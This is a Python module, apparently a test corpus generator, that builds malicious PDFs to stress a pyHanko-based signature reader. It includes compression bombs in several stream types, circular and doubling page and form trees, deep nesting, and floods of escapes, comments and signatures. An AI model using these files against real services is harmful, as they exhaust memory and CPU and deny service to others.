"""Makes PDFs that are meant to hurt: bombs, loops, nesting, floods. Small files, much work; nothing here is copied."""

import zlib

MANY = 200_000_000
"""Octets that a bomb swells to."""


def document(*objects, trailer=b"/Root 1 0 R", prefix=b"%PDF-1.7\n"):
    """A whole file with a classic cross-reference table round the bodies of objects 1, 2, ..."""
    body, offsets = prefix, []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%btrailer<</Size %d%b>>\n" % (size, rows, size, trailer)
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def stream(dictionary, data):
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (dictionary, len(data), data)


def packed(size=MANY, times=1):
    """Zeros, deflated so often."""
    data = _zeros(size)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _zeros(size):
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(size >> 20)]
    parts.append(packer.compress(bytes(size & ((1 << 20) - 1))) + packer.flush())
    return b"".join(parts)


def ending_in(section, body=b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"):
    """A file whose startxref names the cross-reference stream ``section``."""
    return body + b"9 0 obj\n" + section + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def cross_reference_bomb():
    """194 kB: a cross-reference stream of 200 MB. It kept stock pyHanko busy for 228 s with 5.3 GB."""
    keys = b"/Type/XRef/Root 1 0 R/W[1 2 1]/Size %d/Filter/FlateDecode" % (MANY // 4)
    return ending_in(stream(keys, packed()))


def cross_reference_bomb_behind_a_small_size():
    """It says that it has nine entries, and holds 200 MB."""
    return ending_in(stream(b"/Type/XRef/Root 1 0 R/W[1 2 1]/Size 9/Filter/FlateDecode", packed()))


def cross_reference_bomb_for_the_patient_reader():
    """A key twice: the strict reader passes the bomb on to pyHanko, and only the limits of the process hold."""
    keys = b"/Type/XRef/Root 1 0 R/Root 1 0 R/W[1 2 1]/Size %d/Filter/FlateDecode" % (MANY // 4)
    return ending_in(stream(keys, packed()))


def cross_reference_bomb_deflated_twice():
    keys = b"/Type/XRef/Root 1 0 R/W[1 2 1]/Size %d/Filter[/FlateDecode/FlateDecode]" % (MANY // 4)
    return ending_in(stream(keys, packed(times=2)))


def cross_reference_bomb_with_predictor():
    parameters = b"/DecodeParms<</Predictor 12/Columns 4>>"
    keys = b"/Type/XRef/Root 1 0 R/W[1 2 1]/Size %d/Filter/FlateDecode%b" % (MANY // 5, parameters)
    return ending_in(stream(keys, packed()))


def wide_entries():
    return ending_in(stream(b"/Type/XRef/Root 1 0 R/W[999999999 2 1]/Size 9", bytes(99)))


def no_width():
    return ending_in(stream(b"/Type/XRef/Root 1 0 R/W[0 0 0]/Size 4000000000", b""))


def table_of_four_thousand_million():
    return b"%PDF-1.7\nxref\n0 4294967295\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF"


def sections_in_a_circle():
    head = b"%PDF-1.7\n"
    return head + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"


def a_thousand_revisions(count=20_000):
    parts, start, previous = [document(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE)], 0, None
    previous = parts[0].rindex(b"xref\n0")
    start = len(parts[0])
    for _ in range(count):
        part = b"xref\n0 0\ntrailer<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)
        parts.append(part)
        previous, start = start, start + len(part)
    return b"".join(parts)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def pages_in_a_circle():
    return document(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"
    )


def pages_doubling():
    """Each node names the next one twice: 2 to the 60th pages."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (n + 1, n + 1) for n in range(2, 62)]
    return document(CATALOG, *nodes, PAGE)


def pages_down_and_down():
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 30_000)]
    return document(CATALOG, *nodes, PAGE)


def fields_in_a_circle():
    form = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>"
    return document(form, PAGES, PAGE, b"<</T(a)/Kids[5 0 R]>>", b"<</T(b)/Kids[4 0 R]>>")


def fields_doubling():
    """A tree of fields that names each branch twice; names grow with every level."""
    nodes = [b"<</T(%b)/Kids[%d 0 R %d 0 R]>>" % (b"n" * 100, n + 1, n + 1) for n in range(4, 64)]
    form = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>"
    return document(form, PAGES, PAGE, *nodes, b"<</FT/Sig/T(x)>>")


def references_in_a_circle():
    return document(b"<</Type/Catalog/Pages 2 0 R>>", b"3 0 R", b"2 0 R")


def length_that_refers_to_itself():
    return document(b"<</Type/Catalog/Pages 2 0 R/DSS 4 0 R>>", PAGES, PAGE, b"<</Length 4 0 R>>\nstream\n\nendstream")


def a_million_signatures(count=100_000):
    fields = b" ".join(b"<</FT/Sig/T(a)/V<</ByteRange[0 1 2 3]/Contents<00>>>>>" for _ in range(count))
    return document(b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + fields + b"]>>>>", PAGES, PAGE)


def security_store_bomb():
    """One certificate of 200 MB in the security store."""
    store = b"<</Type/Catalog/Pages 2 0 R/DSS<</Certs[4 0 R]>>>>"
    return document(store, PAGES, PAGE, stream(b"/Filter/FlateDecode", packed()))


def security_store_of_many(count=3_000):
    """Certificates of a megabyte each, thousands of them."""
    certificates = [stream(b"/Filter/FlateDecode", _zeros((1 << 20) + n)) for n in range(40)]
    names = b" ".join(b"%d 0 R" % (4 + n % 40) for n in range(count))
    return document(b"<</Type/Catalog/Pages 2 0 R/DSS<</Certs[" + names + b"]>>>>", PAGES, PAGE, *certificates * 4)


def object_stream_bomb():
    """A page tree that lies in an object stream of 200 MB."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    place = len(body)
    keys = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    body += b"3 0 obj\n" + stream(keys, packed()) + b"\nendobj\n"
    rows = b"".join(
        bytes([kind]) + two.to_bytes(4) + bytes([three])
        for kind, two, three in ((0, 0, 0), (1, 9, 0), (2, 3, 0), (1, place, 0))
    )
    return ending_in(stream(b"/Type/XRef/Root 1 0 R/W[1 4 1]/Size 4", rows), body)


def nested(opening):
    return lambda: document(b"<</Type/Catalog/Pages 2 0 R/X " + opening * 200_000 + b">>", PAGES, PAGE)


def digits_without_end():
    return document(b"<</Type/Catalog/Pages 2 0 R/X " + b"1" * 5_000_000 + b">>", PAGES, PAGE)


def string_full_of_escapes():
    return document(b"<</Type/Catalog/Pages 2 0 R/X (" + b"\\(" * 2_000_000 + b")>>", PAGES, PAGE)


def comments_without_end():
    return document(b"<</Type/Catalog" + b"%\n" * 3_000_000 + b"/Pages 2 0 R>>", PAGES, PAGE)


HOSTILE = {
    maker.__name__: maker
    for maker in (
        cross_reference_bomb,
        cross_reference_bomb_behind_a_small_size,
        cross_reference_bomb_for_the_patient_reader,
        cross_reference_bomb_deflated_twice,
        cross_reference_bomb_with_predictor,
        wide_entries,
        no_width,
        table_of_four_thousand_million,
        sections_in_a_circle,
        a_thousand_revisions,
        pages_in_a_circle,
        pages_doubling,
        pages_down_and_down,
        fields_in_a_circle,
        fields_doubling,
        references_in_a_circle,
        length_that_refers_to_itself,
        a_million_signatures,
        security_store_bomb,
        security_store_of_many,
        object_stream_bomb,
        digits_without_end,
        string_full_of_escapes,
        comments_without_end,
    )
} | {
    "arrays_nested": nested(b"["),
    "dictionaries_nested": nested(b"<</A"),
    "strings_nested": nested(b"("),
}
"""Each way to hurt, by name, with what makes the file."""
